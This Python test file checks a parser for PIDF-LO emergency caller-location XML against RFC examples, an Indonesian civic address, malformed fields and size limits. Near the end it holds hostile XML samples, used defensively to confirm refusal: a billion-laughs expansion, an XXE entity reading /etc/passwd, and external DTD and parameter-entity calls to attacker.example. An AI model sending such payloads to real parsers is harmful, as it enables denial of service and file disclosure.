"""PIDF-LO caller location: RFC 4119/5491 examples, an Indonesian civic address, hostile documents."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from telephony.pidf_lo import MAX_PIDF_BYTES, CallerLocation, MalformedLocation, parse_pidf_lo

DATA = Path(__file__).parent / "data" / "telephony"

HEAD = (
    '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"'
    ' xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" xmlns:gml="http://www.opengis.net/gml"'
    ' xmlns:gs="http://www.opengis.net/pidflo/1.0" entity="tel:+6281234567890">'
)


def document(shape: str) -> str:
    """A one-device PIDF-LO around a location-info body."""
    return (
        f'{HEAD}<dm:device id="d"><gp:geopriv><gp:location-info>{shape}</gp:location-info>'
        "<gp:usage-rules/></gp:geopriv></dm:device></presence>"
    )


def point(pos: str, srs: str = "urn:ogc:def:crs:EPSG::4326") -> str:
    return document(f'<gml:Point srsName="{srs}"><gml:pos>{pos}</gml:pos></gml:Point>')


def circle(radius: str, uom: str = "urn:ogc:def:uom:EPSG::9001") -> str:
    return document(
        '<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-5.14767 119.43278</gml:pos>'
        f'<gs:radius uom="{uom}">{radius}</gs:radius></gs:Circle>'
    )


def read(name: str) -> bytes:
    return (DATA / name).read_bytes()


def test_rfc5491_point() -> None:
    location = parse_pidf_lo(read("rfc5491_point.xml"))
    assert location == CallerLocation(
        lat=-34.407,
        lon=150.883,
        radius_m=None,
        shape="point",
        civic={},
        address=None,
        method="Wiremap",
        timestamp=datetime(2007, 6, 22, 20, 57, 29, tzinfo=UTC),
        entity="pres:point2d@example.com",
    )


def test_rfc5491_circle_gives_radius_in_metres_and_a_utc_timestamp() -> None:
    location = parse_pidf_lo(read("rfc5491_circle.xml"))
    assert (location.shape, location.lat, location.lon, location.radius_m) == ("circle", 42.5463, -73.2512, 850.24)
    assert location.method == "OTDOA"
    assert location.timestamp == datetime(2007, 6, 22, 10, 57, 29, 123000, tzinfo=UTC)
    assert location.timestamp is not None and location.timestamp.tzinfo is UTC


def test_rfc5491_ellipse_uses_the_semi_major_axis_as_accuracy() -> None:
    location = parse_pidf_lo(read("rfc5491_ellipse.xml"))
    assert (location.shape, location.lat, location.lon, location.radius_m) == ("ellipse", 42.5463, -73.2512, 1275.0)
    assert location.method == "Cell" and location.timestamp is None


@pytest.mark.parametrize("name", ["rfc5491_polygon.xml", "rfc5491_polygon_poslist.xml"])
def test_rfc5491_polygon_gives_centroid_and_farthest_vertex(name: str) -> None:
    location = parse_pidf_lo(read(name))
    assert location.shape == "polygon"
    # a hexagon symmetric about -73.272: a 0.04 deg2 trapezoid below 43.311 and a 0.02 one above
    assert location.lat == pytest.approx(43.26933, abs=1e-4)
    assert location.lon == pytest.approx(-73.272, abs=1e-6)
    # the farthest vertices (43.111, -73.322) and (43.111, -73.222) are ~18.1 km from the centroid
    assert location.radius_m == pytest.approx(18_060, rel=0.01)


def test_polygon_centroid_of_a_square_is_its_centre() -> None:
    ring = "".join(f"<gml:pos>{p}</gml:pos>" for p in ["-5.10 119.40", "-5.10 119.42", "-5.12 119.42", "-5.12 119.40"])
    location = parse_pidf_lo(
        document(f"<gml:Polygon><gml:exterior><gml:LinearRing>{ring}</gml:LinearRing></gml:exterior></gml:Polygon>")
    )
    assert location.lat == pytest.approx(-5.11, abs=1e-6)
    assert location.lon == pytest.approx(119.41, abs=1e-6)
    assert location.radius_m == pytest.approx(1568, rel=0.01)


def test_rfc4119_original_example_in_degrees_minutes_seconds() -> None:
    location = parse_pidf_lo(read("rfc4119_point.xml"))
    assert location.shape == "point"
    assert location.lat == pytest.approx(37 + 46 / 60 + 30 / 3600)
    assert location.lon == pytest.approx(-(122 + 25 / 60 + 10 / 3600))
    assert location.timestamp == datetime(2003, 6, 22, 20, 57, 29, tzinfo=UTC)
    assert location.entity == "pres:geotarget@example.com"


def test_rfc5491_civic_address() -> None:
    location = parse_pidf_lo(read("rfc5491_civic.xml"))
    assert (location.shape, location.lat, location.lon, location.radius_m) == ("civic", None, None, None)
    assert location.civic["country"] == "AU" and location.civic["A3"] == "Wollongong"
    assert location.civic["POBOX"] == "Private Box 15"
    assert location.method == "Manual"
    assert location.timestamp == datetime(2007, 6, 24, 12, 28, 4, tzinfo=UTC)
    assert location.address == (
        "Video Rental Store, Flinders Street, Corner, Gilligan's Island, North Wollongong, Wollongong, NSW 2500"
    )


def test_indonesian_civic_address_reads_in_indonesian_order() -> None:
    location = parse_pidf_lo(read("makassar_civic.xml"))
    assert location.shape == "civic"
    assert location.civic == {
        "country": "ID",
        "A1": "Sulawesi Selatan",
        "A2": "Kota Makassar",
        "A3": "Makassar",
        "A4": "Panakkukang",
        "RD": "Jalan Boulevard",
        "HNO": "12",
        "HNS": "A",
        "PC": "90231",
    }
    assert location.address == "Jalan Boulevard No. 12A, Panakkukang, Makassar, Kota Makassar, Sulawesi Selatan 90231"
    assert location.entity == "tel:+6281234567890"
    assert location.method == "Wiremap"


def test_short_civic_address() -> None:
    civic = (
        '<ca:civicAddress xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr">'
        "<ca:country>ID</ca:country><ca:A3>Makassar</ca:A3><ca:RD>Jl. Sudirman</ca:RD><ca:HNO>5</ca:HNO>"
        "<ca:FLR>3</ca:FLR><ca:A6></ca:A6></ca:civicAddress>"
    )
    location = parse_pidf_lo(document(civic))
    assert location.address == "Jl. Sudirman No. 5, Lt. 3, Makassar"
    assert "A6" not in location.civic


def test_geodetic_shape_wins_over_civic_and_civic_is_kept_alongside() -> None:
    location = parse_pidf_lo(read("makassar_civic_and_gps.xml"))
    assert (location.shape, location.lat, location.lon, location.radius_m) == ("circle", -5.14767, 119.43278, 15.0)
    assert location.method == "GPS"
    assert location.timestamp == datetime(2024, 3, 5, 2, 15, 2, tzinfo=UTC)
    assert location.civic["RD"] == "Jalan Boulevard"
    assert location.address == "Jalan Boulevard No. 12, Panakkukang, Makassar, Sulawesi Selatan"


def test_accepts_str_bytes_and_3d_positions() -> None:
    as_str = parse_pidf_lo(point("-5.14767 119.43278 12.5", srs="urn:ogc:def:crs:EPSG::4979"))
    as_bytes = parse_pidf_lo(point("-5.14767 119.43278").encode())
    assert (as_str.lat, as_str.lon) == (as_bytes.lat, as_bytes.lon) == (-5.14767, 119.43278)


def test_str_with_an_encoding_declaration_and_non_ascii_text() -> None:
    civic = (
        '<ca:civicAddress xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr">'
        "<ca:RD>Jalan Sultan Alauddin</ca:RD><ca:NAM>Warung Coto Nusantara \u00e9</ca:NAM></ca:civicAddress>"
    )
    text = '<?xml version="1.0" encoding="UTF-8"?>' + document(civic)
    assert parse_pidf_lo(text).civic["NAM"].endswith("\u00e9")
    assert parse_pidf_lo(text.encode("utf-8")).civic["NAM"].endswith("\u00e9")


def test_unparseable_timestamp_is_dropped_not_fatal() -> None:
    text = point("-5.1 119.4").replace("</dm:device>", "<dm:timestamp>kemarin sore</dm:timestamp></dm:device>")
    location = parse_pidf_lo(text)
    assert location.lat == -5.1 and location.timestamp is None


def test_unsupported_shape_falls_back_to_civic() -> None:
    shapes = (
        '<gml:LineString srsName="urn:ogc:def:crs:EPSG::4326"><gml:posList>-5.1 119.4 -5.2 119.5</gml:posList>'
        "</gml:LineString>"
        '<ca:civicAddress xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"><ca:A3>Makassar</ca:A3>'
        "</ca:civicAddress>"
    )
    location = parse_pidf_lo(document(shapes))
    assert location.shape == "civic" and location.address == "Makassar"


@pytest.mark.parametrize(
    ("text", "field"),
    [
        (point("91 119.4"), "latitude"),
        (point("-90.0001 119.4"), "latitude"),
        (point("-5.1 180.5"), "longitude"),
        (point("NaN 119.4"), "pos"),
        (point("-5.1 inf"), "pos"),
        (point("1e400 119.4"), "not finite"),
        (point("-5.1"), "pos"),
        (point(""), "pos"),
        (point("-5.1 119.4 3 4"), "pos"),
        (point("-5.1,119.4"), "pos"),
        (point("-5.1 119.4", srs="urn:ogc:def:crs:EPSG::3857"), "srsName"),
        (document('<gml:Point srsName="urn:ogc:def:crs:EPSG::4326"></gml:Point>'), "pos"),
        (circle("-1"), "radius"),
        (circle("NaN"), "radius"),
        (circle("50", uom="urn:ogc:def:uom:EPSG::9002"), "radius"),
        (circle("").replace("<gs:radius", "<gs:other").replace("</gs:radius>", "</gs:other>"), "radius"),
        (document("<gml:Polygon><gml:exterior></gml:exterior></gml:Polygon>"), "LinearRing"),
        (
            document(
                "<gml:Polygon><gml:exterior><gml:LinearRing><gml:pos>-5.1 119.4</gml:pos><gml:pos>-5.2 119.4</gml:pos>"
                "<gml:pos>-5.1 119.4</gml:pos></gml:LinearRing></gml:exterior></gml:Polygon>"
            ),
            "vertices",
        ),
        (
            document(
                "<gml:Polygon><gml:exterior><gml:LinearRing><gml:posList>-5.1 119.4 -5.2</gml:posList>"
                "</gml:LinearRing></gml:exterior></gml:Polygon>"
            ),
            "posList",
        ),
        (
            document('<gs:ArcBand srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>-5.1 119.4</gml:pos></gs:ArcBand>'),
            "ArcBand: no <innerRadius>",
        ),
        (document(""), "location-info"),
        (HEAD + "</presence>", "location-info"),
        ('<gp:geopriv xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"/>', "presence"),
    ],
)
def test_bad_locations_are_refused_naming_the_field(text: str, field: str) -> None:
    with pytest.raises(MalformedLocation, match=field):
        parse_pidf_lo(text)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE presence [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="&lol9;"/>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="x"><tuple id="a"><note>&xxe;</note></tuple></presence>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/pidf.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""


@pytest.mark.parametrize(
    ("document_", "reason"),
    [
        (BILLION_LAUGHS, "forbidden"),
        (XXE, "forbidden"),
        (EXTERNAL_DTD, "forbidden"),
        (PARAMETER_ENTITY, "forbidden"),
        (b"", "well-formed"),
        ("not xml at all", "well-formed"),
        (point("-5.1 119.4")[:-40], "well-formed"),
        (point("-5.1 119.4").encode("utf-8").replace(b"119.4", b"119.4\xe9\xff"), "well-formed"),
        ("<presence>\ud800</presence>", "encoding"),
        (b"\xff\xfe\x00<\x00p", "well-formed"),
    ],
)
def test_hostile_documents_are_refused_quickly(document_: str | bytes, reason: str) -> None:
    started = time.monotonic()
    with pytest.raises(MalformedLocation, match=reason):
        parse_pidf_lo(document_)
    assert time.monotonic() - started < 1.0


def test_documents_over_the_size_cap_are_refused_before_parsing() -> None:
    padding = "<!--" + "x" * MAX_PIDF_BYTES + "-->"
    with pytest.raises(MalformedLocation, match="more than the 65536 allowed"):
        parse_pidf_lo(point("-5.1 119.4") + padding)
    with pytest.raises(MalformedLocation, match="document"):
        parse_pidf_lo(b" " * (MAX_PIDF_BYTES + 1))


def test_a_document_just_under_the_cap_still_parses() -> None:
    text = point("-5.1 119.4")
    padded = text + "<!--" + "x" * (MAX_PIDF_BYTES - len(text) - 7) + "-->"
    assert len(padded.encode()) == MAX_PIDF_BYTES
    assert parse_pidf_lo(padded).lat == -5.1


def test_deeply_nested_document_is_handled_without_recursion_errors() -> None:
    depth = (MAX_PIDF_BYTES - 1000) // 7
    nested = "<a>" * depth + "</a>" * depth
    assert len(nested) < MAX_PIDF_BYTES
    started = time.monotonic()
    with pytest.raises(MalformedLocation, match="location-info"):
        parse_pidf_lo(HEAD + '<tuple id="t">' + nested + "</tuple></presence>")
    with pytest.raises(MalformedLocation, match="location-info"):
        parse_pidf_lo(document(nested))
    assert time.monotonic() - started < 2.0
